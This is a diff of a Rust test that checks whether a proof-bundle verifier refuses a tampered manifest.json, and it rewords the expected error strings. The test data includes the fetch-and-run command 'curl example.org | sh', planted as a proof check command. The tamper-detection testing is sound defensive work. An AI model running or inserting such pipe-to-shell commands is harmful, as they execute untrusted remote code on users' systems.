@@ -91,14 +91,14 @@ fn changed_commands_in_the_manifest() {
     manifest["proofs"][0]["check"] = "curl example.org | sh".into();
     bundle.write("manifest.json", &manifest.to_string());
     bundle.refused(
-        "manifest.json: what it says of proof.lrat is `blocked.cnf; proof.lrat; curl \
-                    example.org | sh; ",
+        "manifest.json: the text about proof.lrat is `blocked.cnf; proof.lrat; curl example.org \
+         | sh; ",
     );
     manifest = Bundle::of(FIVE).manifest();
     manifest["proofs"][0]["trusted"] = serde_json::json!([]);
     let bundle = Bundle::of(FIVE);
     bundle.write("manifest.json", &manifest.to_string());
-    bundle.refused("manifest.json: what it says of proof.pbp is ");
+    bundle.refused("manifest.json: the text about proof.pbp is ");
 }
 
 #[test]
